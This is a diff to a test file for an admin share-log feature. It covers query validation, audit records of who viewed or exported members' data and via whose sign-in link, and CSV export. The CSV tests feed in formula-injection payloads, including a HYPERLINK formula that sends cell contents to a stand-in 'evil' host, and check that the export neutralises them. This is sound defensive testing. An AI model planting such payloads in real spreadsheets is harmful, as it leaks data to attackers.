@@ -1,12 +1,12 @@
 /** The share log for admins: filters, pages, the file, and the trace that a look leaves. */
 import papaparse from 'papaparse';
 import { beforeAll, expect, it } from 'vitest';
-import { adminPostSchema } from '../../shared/admin-api.ts';
+import { adminPostSchema, signInLinkSchema } from '../../shared/admin-api.ts';
 import { type LogPage, logPageSchema, meSchema, themeSchema } from '../../shared/api.ts';
 import { translator } from '../../shared/languages/index.ts';
 import { csvRows } from '../../server/reports/share-log-csv.ts';
 import { onBothEngines } from './engines.ts';
-import { event, makeWorld, type Person, type Program, type World } from './world.ts';
+import { type Caller, event, makeWorld, type Person, type Program, type World } from './world.ts';
 
 onBothEngines('the log', (databases) => {
   let world: World;
@@ -67,10 +67,19 @@ onBothEngines('the log', (databases) => {
     expect(await count(`theme=${theme}`)).toBe(2);
     expect(await count('kind=clip')).toBe(1);
     expect(await count('state=inserted')).toBe(1);
-    expect(await count('from=2026-11-02')).toBe(2);
-    expect(await count('to=2026-11-01')).toBe(1);
-    expect(await count('from=2026-11-01&to=2026-11-01&network=linkedin')).toBe(0);
+    expect(await count('from=2026-11-02T00:00:00.000Z')).toBe(2);
+    expect(await count('to=2026-11-02T00:00:00.000Z')).toBe(1);
+    expect(await count('from=2026-11-01T23:59:59.999Z&to=2026-11-02T00:00:00.001Z')).toBe(2);
+    expect(await count('from=2026-11-01T00:00:00Z&to=2026-11-02T00:00:00Z&network=linkedin')).toBe(0);
   });
+
+  it.each(['limit=1.5', 'limit=0', 'limit=x', 'before=1.5', 'from=2026-11-02', 'to=yesterday'])(
+    'refuses %s as a bad request',
+    async (query) => {
+      for (const path of ['log', 'log.csv'])
+        expect((await world.ask('GET', `${path}?${query}`, { as: a.session })).status).toBe(400);
+    },
+  );
 
   it('finds words of post, variant and clip without accents or capitals, and takes no sign for a pattern', async () => {
     const found = (text: string) => count(`text=${encodeURIComponent(text)}`);
@@ -110,10 +119,45 @@ onBothEngines('the log', (databases) => {
     await page(`member=${me.id}`, b);
     expect(await looks()).toEqual([]);
     await Promise.all([page(`member=${me.id}`), page(`member=${me.id}&before=9`)]);
-    expect(await looks()).toEqual([{ by: 'Alpha admin', at: new Date(world.time).toISOString() }]);
+    expect(await looks()).toEqual([{ by: 'Alpha admin', via: null, at: new Date(world.time).toISOString() }]);
     world.time += 3600_000;
     await (await world.ask('GET', `log.csv?member=${me.id}`, { as: a.session })).text();
     expect(await looks()).toHaveLength(2);
+  });
+
+  it('counts a file as a look for each member in it, and for nobody else', async () => {
+    const [within, without] = [await world.join(a.id, 'In it', 'ambassador'), await world.join(a.id, 'Not', 'curator')];
+    await world.push(within, [event(within, 1, 'share.inserted', { network: 'x', post: post.id, method: 'editor' })]);
+    const looks = async (person: Person) => (await world.get(meSchema, 'GET', 'me', { as: person })).looks;
+    await page('');
+    expect(await looks(within)).toEqual([]);
+    await (await world.ask('GET', 'log.csv?network=linkedin', { as: a.session })).text();
+    expect(await looks(within)).toEqual([]);
+    for (let times = 0; times < 2; times++) await (await world.ask('GET', 'log.csv', { as: a.session })).text();
+    expect(await looks(within)).toMatchObject([{ by: 'Alpha admin' }]);
+    expect(await looks(without)).toEqual([]);
+  });
+
+  it('says who made the link by which the looker came in', async () => {
+    const me = await world.join(a.id, 'Behind', 'ambassador');
+    const link = async (as: Caller, member: string) => {
+      const made = await world.get(signInLinkSchema, 'POST', 'sign-in-codes', { as, body: { member } });
+      const answer = await world.ask('POST', 'sign-in', { body: { code: made.link.split('#')[1] } });
+      return { cookie: (answer.headers.get('Set-Cookie') ?? '').split(';')[0] ?? '' };
+    };
+    const look = (as: Caller) => world.get(logPageSchema, 'GET', `log?member=${me.id}`, { as });
+    const looks = async () =>
+      (await world.get(meSchema, 'GET', 'me', { as: me })).looks.map(({ by, via }) => `${by} via ${via}`).toSorted();
+    const other = await link(a.session, a.admin.id);
+    await look(other);
+    expect(await looks()).toEqual(['Alpha admin via Alpha admin']);
+    await look(await link(a.session, a.adminId));
+    expect(await looks()).toHaveLength(2);
+    expect(await looks()).toContain('Alpha admin via null');
+    // One more link for oneself does not hide where the first one came from; an own link is nobody else's.
+    world.time += 3600_000;
+    await look(await link(other, a.admin.id));
+    expect((await looks()).filter((each) => each.endsWith('via Alpha admin'))).toHaveLength(2);
   });
 
   it('writes a file that a spreadsheet opens and does not run', async () => {
@@ -125,6 +169,7 @@ onBothEngines('the log', (databases) => {
     const bytes = new Uint8Array(await answer.arrayBuffer());
     expect(bytes.slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
     const text = new TextDecoder().decode(bytes);
+    expect(text).toMatch(/^\uFEFF?Quand \(UTC\);Reçu \(UTC\);Qui;/);
     expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
     const { data, errors } = papaparse.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true });
     expect(errors).toEqual([]);
@@ -138,7 +183,7 @@ onBothEngines('the log', (databases) => {
       État: 'Publié',
     });
     const english = await world.ask('GET', 'log.csv?network=linkedin', { as: a.session });
-    expect(await english.text()).toMatch(/^When \(UTC\),.*\r\n2026-11-02T00:00:00.000Z,.*LinkedIn,Energy,/);
+    expect(await english.text()).toMatch(/^\uFEFF?When \(UTC\),.*\r\n2026-11-02 00:00:00,.*LinkedIn,Energy,/);
   });
 
   it('puts every page of a long log into the file', async () => {
@@ -156,7 +201,26 @@ onBothEngines('the log', (databases) => {
     expect(ids).toEqual(events.map((each) => each.id).toReversed());
   });
 
-  it.each(['=1', '+1', '-1', '@x', '\tx', '\rx'])('disarms a cell that begins like a formula: %j', (cell) => {
-    expect(papaparse.parse<string[]>(csvRows([[cell]])).data[0]?.[0]).toBe(`'${cell}`);
+  it.each([
+    ['=HYPERLINK("http://evil/"&A1)\nX', '\'=HYPERLINK("http://evil/"&A1) X'],
+    ['=1+1\nfoo', "'=1+1 foo"],
+    ['=1+1\u2028foo', "'=1+1 foo"],
+    [' =1', "'=1"],
+    ['\t=1', "'=1"],
+    ['\r\n=1', "'=1"],
+    ['\u0000=1', "'=1"],
+    ['@x', "'@x"],
+    ['+1', "'+1"],
+    ['-1', "'-1"],
+    ['＝1', "'＝1"],
+    ['\tx', 'x'],
+    ['a = b;c, "d"\n\n e', 'a = b;c, "d" e'],
+  ])('writes a cell as one line that no spreadsheet runs: %j', (cell, written) => {
+    for (const language of ['fr', 'en'] as const) {
+      const row = csvRows([['x', cell]], language);
+      const { data } = papaparse.parse<string[]>(row, { delimiter: language === 'fr' ? ';' : ',' });
+      expect(data[0]).toEqual(['x', written]);
+      expect(row.trimEnd()).not.toMatch(/[\r\n]/);
+    }
   });
 });
